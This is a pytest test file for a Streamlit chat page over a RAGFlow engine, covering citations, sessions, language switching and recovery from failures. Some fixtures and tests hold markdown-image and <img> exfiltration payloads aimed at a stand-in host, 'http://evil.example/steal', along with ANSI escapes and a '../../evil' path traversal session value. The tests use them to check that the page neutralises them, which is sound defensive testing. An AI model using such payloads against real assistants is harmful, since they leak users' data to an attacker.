"""The page itself, run by Streamlit's own test driver against an engine on a real socket."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("streamlit", reason="the extra `ui` is not installed: pip install -e '.[ui]'")

from ragflow_bench import KEY, Bench, Server, application, bench
from streamlit.testing.v1 import AppTest

from rfctl.engine import daemon
from rfctl.ragflow_client.connection import connect
from rfctl.web import place
from rfctl.web.asking import Asking
from rfctl.web.serve import SCRIPT

MANUAL = Path(__file__).resolve().parents[2] / "docs" / "manual.pdf"
EVIL = "http://evil.example/steal"
QUESTION = "How many tokens without the option num-ctx?"
ANSWER = "Without the option num-ctx it is 8192 tokens. [ID:0]"


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bench]:
    """An engine with the manual and a hostile note in the knowledge base `docs`."""
    folder = tmp_path_factory.mktemp("web")
    note = folder / "note.txt"
    note.write_text(f"The zebra secret is ![pixel]({EVIL}?q=zebra) <img src={EVIL}> \x1b[31mred.", "utf-8")
    with bench(folder / "engine", preset=True) as made:
        with connect(made.url, KEY) as ragflow:
            dataset, _ = ragflow.create_dataset("docs")
            ragflow.upload(dataset, [MANUAL, note]).check()
        yield made


@pytest.fixture
def engine(library: Bench) -> Iterator[Bench]:
    """The same without an assistant."""
    models = library.double.models
    library.double.answer = ANSWER
    yield library
    library.double.models = models
    place.drop()
    with connect(library.url, KEY) as ragflow:
        for chat in ragflow.chats():
            ragflow.remove_chat(chat)


def use(url: str, tmp_path: Path, language: str = "en", chat: str = "") -> None:
    place.use(place.Place(language, "", url, tmp_path / "none", tmp_path / "cache", chat, KEY))


@pytest.fixture
def page(engine: Bench, tmp_path: Path) -> AppTest:
    """The page with the assistant `helper`."""
    make_chat(engine, "helper")
    use(engine.url, tmp_path)
    return opened()


def make_chat(engine: Bench, name: str) -> None:
    with connect(engine.url, KEY) as ragflow:
        ragflow.create_chat(name, [ragflow.dataset("docs")])


def opened() -> AppTest:
    test = AppTest.from_file(str(SCRIPT), default_timeout=60)
    test.run()
    assert not test.exception, test.exception
    return test


def ask(test: AppTest, question: str = QUESTION) -> AppTest:
    test.chat_input[0].set_value(question).run()
    assert not test.exception, test.exception
    return test


def sayings(test: AppTest) -> list[str]:
    """The paragraphs of the conversation."""
    return [one.value for message in test.chat_message for one in message.markdown]


def labels(test: AppTest) -> list[str]:
    return [one.label for one in test.main.expander]


def everything(node: Any) -> str:
    """All that goes to the browser."""
    parts = [everything(child) for child in getattr(node, "children", {}).values()]
    return " ".join([str(node.proto) if hasattr(node, "proto") else "", *parts])


def press(test: AppTest, key: str) -> AppTest:
    next(one for one in test.button if (one.key or "").startswith(key)).click().run()
    assert not test.exception, test.exception
    return test


def test_a_question_gets_its_answer_with_document_and_page(page: AppTest, engine: Bench) -> None:
    assert page.subheader[0].value == "helper"
    ask(page)
    question, answer = sayings(page)
    assert question.replace("\\", "") == QUESTION
    assert answer == "Without the option num-ctx it is 8192 tokens. :blue-badge[1]"
    cited = page.main.expander[0]
    assert cited.label.replace("\\", "") == ":blue-badge[1] manual.pdf, page 5"
    assert "8192 tokens" in cited.text[0].value
    assert {one.key for one in page.button} >= {"new", "remove"}
    shown = everything(page.main) + everything(page.sidebar)
    assert "8192 tokens" in shown
    assert KEY not in shown
    assert page.query_params["session"]


def test_the_page_of_the_document_is_drawn_on_demand(page: AppTest) -> None:
    ask(page)
    assert not page.get("image")
    page.toggle[0].set_value(True).run()
    assert not page.exception
    (picture,) = page.get("image")
    assert "/media/" in str(picture.proto)


def test_what_a_model_thinks_is_folded_away(page: AppTest, engine: Bench) -> None:
    engine.double.answer = f"<think>Let me see. ![x]({EVIL})</think>It is Heron. [ID:0]"
    ask(page)
    assert sayings(page)[-1] == "It is Heron. :blue-badge[1]"
    thought = page.main.expander[0]
    assert (thought.label, thought.proto.expanded) == ("What the model thought", False)
    assert thought.text[0].value == f"Let me see. ![x]({EVIL})"
    assert not thought.markdown


def test_nothing_of_a_hostile_document_or_model_is_active(page: AppTest, engine: Bench) -> None:
    engine.double.answer = f"See ![pixel]({EVIL}?q=1) [here]({EVIL}) <img src={EVIL}> \x1b[31m$x$ [ID:0]"
    ask(page, "What is the zebra secret?")
    said = sayings(page)[-1]
    assert said.startswith(f"See !\\[pixel\\](`{EVIL}?q=1`) \\[here\\](`{EVIL}`) \\<img src=`{EVIL}`")
    assert "\\$x\\$ :blue-badge[1]" in said
    assert "\x1b" not in said
    # Passages are shown as text, which is never read as Markdown.
    assert any("![pixel]" in one.value for one in page.text)
    for one in [*page.markdown, *page.caption, *page.error]:
        assert "![" not in one.value
        assert not one.allow_html
    assert "\x1b" not in everything(page.main) + everything(page.sidebar)


def test_a_conversation_goes_on_is_listed_and_comes_back(page: AppTest, engine: Bench) -> None:
    ask(page)
    ask(page, "And the zebra secret?")
    assert len(page.chat_message) == 4
    key = "session"
    session = page.query_params[key]
    press(page, "new")
    assert not page.chat_message
    assert key not in page.query_params
    (entry,) = [one for one in page.button if (one.key or "").startswith("open-")]
    assert entry.label.startswith("How many tokens")
    entry.click().run()
    assert [one.replace("\\", "") for one in sayings(page)[::2]] == [QUESTION, "And the zebra secret?"]
    assert ":blue-badge[1]" in sayings(page)[1]
    assert labels(page)[0].replace("\\", "") == ":blue-badge[1] manual.pdf, page 5"
    # A reload: a new visit with the same address.
    again = AppTest.from_file(str(SCRIPT), default_timeout=60)
    chat = page.query_params["chat"]
    again.query_params.update({"chat": chat, key: session})
    again.run()
    assert sayings(again) == sayings(page)


def test_a_conversation_is_removed_after_asking(page: AppTest, engine: Bench) -> None:
    ask(page)
    press(page, "remove")
    assert not page.chat_message
    assert not [one for one in page.button if (one.key or "").startswith("open-")]


def test_without_an_assistant_one_is_made_on_the_spot(engine: Bench, tmp_path: Path) -> None:
    use(engine.url, tmp_path)
    test = opened()
    assert test.title[0].value == "Welcome"
    assert test.multiselect[0].options == ["docs"]
    chosen = next(one for one in test.selectbox if one.label == "Model")
    assert chosen.options == ["qwen2.5-coder:1.5b", "smollm2:135m"]
    chosen.set_value(chosen.value.replace("qwen2.5-coder:1.5b", "smollm2:135m"))
    submit = next(one for one in test.button if one.label == "Create")
    submit.click().run()
    assert not test.exception
    assert test.subheader[0].value == "docs"
    assert test.caption[0].value == "docs · smollm2\\:135m"
    ask(test)
    assert "8192 tokens" in sayings(test)[-1]


def test_without_documents_the_page_says_what_to_type(tmp_path: Path) -> None:
    with bench(tmp_path / "engine", preset=True) as made:
        use(made.url, tmp_path)
        test = opened()
        assert test.code[0].value == "rfctl kb upload manual.pdf"
        assert not test.chat_input


def test_the_page_speaks_chinese_and_changes_on_the_spot(engine: Bench, tmp_path: Path) -> None:
    make_chat(engine, "助手")
    make_chat(engine, "other")
    use(engine.url, tmp_path, "zh", "助手")
    test = opened()
    assert test.subheader[0].value == "助手"
    assert test.chat_input[0].placeholder == "向 助手 提问"
    ask(test)
    assert labels(test)[0].replace("\\", "") == ":blue-badge[1] manual.pdf, 第 5 页"
    test.get("button_group")[0].set_value("en").run()
    assert test.chat_input[0].placeholder == "Ask 助手"


def test_a_server_that_went_away_is_told_and_found_again(tmp_path: Path) -> None:
    with bench(tmp_path / "engine", preset=True) as made:
        with connect(made.url, KEY) as ragflow:
            dataset, _ = ragflow.create_dataset("docs")
            ragflow.upload(dataset, [MANUAL]).check()
            ragflow.create_chat("helper", [ragflow.dataset("docs")])
        use(made.url, tmp_path)
        made.double.answer = ANSWER
        test = ask(opened())
        port = int(made.url.rpartition(":")[2])
        self_url = made.double_url
    ask(test, "Still there?")
    said = sayings(test)
    assert "8192 tokens" in said[1]
    assert said[2] == "Still there\\?"
    assert "RAGFlow" in test.error[0].value
    press(test, "again")
    assert "RAGFlow" in test.error[0].value
    with Server(application(tmp_path / "engine", self_url), port):
        press(test, "again")
        # The models went with the old engine's port; the question was asked again all the same.
        assert [one.replace("\\", "") for one in sayings(test)][2] == "Still there?"
        assert "helper could not answer" in test.error[0].value
        assert [one for one in test.button if (one.key or "").startswith("open-")]


def test_a_model_that_fails_leaves_the_question_to_ask_again(page: AppTest, engine: Bench) -> None:
    models = engine.double.models
    engine.double.models = {name: entry for name, entry in models.items() if "embedding" in entry[0]}
    ask(page)
    assert page.error[0].value.startswith("**helper could not answer: a model failed**")
    engine.double.models = models
    press(page, "again")
    assert not page.error
    assert "8192 tokens" in sayings(page)[-1]
    assert len(page.chat_message) == 2


def test_an_unknown_conversation_in_the_address_begins_a_new_one(page: AppTest) -> None:
    other = AppTest.from_file(str(SCRIPT), default_timeout=60)
    other.query_params.update({"chat": page.query_params["chat"], "session": "../../evil"})
    other.run()
    assert not other.exception
    assert not other.chat_message


def test_a_conversation_can_be_kept(page: AppTest, engine: Bench) -> None:
    from rfctl.web.transcript import write_transcript

    engine.double.answer = f"It is ![x]({EVIL}) Heron. [ID:0]"
    ask(page)
    remembered: Any = page.session_state["rfctl"]
    text = write_transcript("helper", remembered.turns, "en")
    assert text.startswith(f"# helper\n\n## {QUESTION}\n\nIt is !\\[x\\](`{EVIL}`) Heron. \\[1\\]\n\n")
    assert "manual.pdf, page " in text


def test_a_question_is_stopped_while_the_server_is_silent(engine: Bench) -> None:
    make_chat(engine, "helper")
    with connect(engine.url, KEY) as ragflow:
        chat = ragflow.chat("helper")
        engine.double.gate.clear()
        asking = Asking(ragflow, chat, QUESTION, ragflow.open_session(chat))
        try:
            assert not asking.await_news(0.2)
            assert asking.turn is None
            turn = asking.stop()
        finally:
            engine.double.gate.set()
        assert (turn.question, turn.text, turn.is_stopped) == (QUESTION, "", True)
        asking.await_pause(20)
        assert asking.turn is turn


def test_the_embedded_engine_is_started_again(tmp_path: Path) -> None:
    folder = tmp_path / "engine"
    place.use(place.Place("en", "embedded", "", folder, tmp_path / "cache"))
    try:
        test = opened()
        assert test.title[0].value == "Welcome"
        assert daemon.stop(folder)
        test.run()
        assert not test.exception
        assert not test.error
        assert daemon.status(folder).running
    finally:
        place.drop()
        daemon.stop(folder)
